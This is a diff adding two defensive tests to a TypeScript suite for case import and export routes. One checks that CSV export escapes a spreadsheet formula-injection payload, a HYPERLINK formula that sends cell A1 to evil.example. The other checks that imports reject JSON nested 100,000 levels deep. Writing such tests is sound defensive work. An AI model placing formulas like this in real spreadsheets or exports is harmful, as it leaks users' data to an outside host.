@@ -158,4 +158,56 @@ describe('judge.cases routes', () => {
     expect(uploads.discard(ids[0])).toBe(false);
     expect(uploads.discard(ids[5])).toBe(true);
   });
+
+  it('neutralises formula cells in a CSV export unless raw CSV is asked for, and checks the choice', async () => {
+    const set = await call<StoredSet>('judge.sets.save', {
+      set: { name: 'Formulas', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
+    });
+    const state = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
+    await call('judge.cases.add', { setId: set.id, state: { mode: 'text', text: state }, expected: {} });
+    const exported = async (extra: Record<string, unknown>) => {
+      await call('judge.cases.export', { setId: set.id, format: 'csv', ...extra });
+      return t.savedText.get('Formulas.cases.csv')!.split('\r\n')[1];
+    };
+    expect(await exported({})).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",text,,`);
+    expect(await exported({ rawCsv: false })).toMatch(/^"'=HYPERLINK/);
+    expect(await exported({ rawCsv: true })).toBe(
+      `"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",text,,`,
+    );
+    // JSON Lines is always as it is.
+    await call('judge.cases.export', { setId: set.id, format: 'jsonl' });
+    expect(JSON.parse(t.savedText.get('Formulas.cases.jsonl')!)).toMatchObject({ state });
+    expect(await send('judge.cases.export', { setId: set.id, format: 'csv', rawCsv: 'yes' })).toMatchObject({
+      ok: false,
+      error: { code: 'invalid_input', message: 'rawCsv: must be true or false' },
+    });
+  });
+
+  it('says a case state nested too deeply is, by row, instead of overflowing the stack', async () => {
+    const set = await call<StoredSet>('judge.sets.save', {
+      set: { name: 'Deep', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
+    });
+    const levels = 100_000;
+    const deep = '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);
+    const fine = '{"a":'.repeat(99) + '1' + '}'.repeat(99);
+    const jsonl = `{"state":${deep},"ok":true}\n{"state":${fine},"ok":false}\n`;
+    const preview = await call<CaseImportPreview>('judge.cases.importPreview', {
+      setId: set.id,
+      uploadId: await uploadText(call, jsonl, 'deep.jsonl'),
+      format: 'jsonl',
+    });
+    expect(preview.problems.map((p) => p.message)).toEqual([
+      'line 1, state: is nested deeper than 100 levels',
+    ]);
+    expect(preview.validCount).toBe(1);
+    const csv = `state,state_type,ok\n"${deep.replace(/"/g, '""')}",json,true\n`;
+    const fromCsv = await call<CaseImportPreview>('judge.cases.importPreview', {
+      setId: set.id,
+      uploadId: await uploadText(call, csv, 'deep.csv'),
+      format: 'csv',
+    });
+    expect(fromCsv.problems.map((p) => p.message)).toEqual([
+      'line 2, state: is nested deeper than 100 levels',
+    ]);
+  });
 });
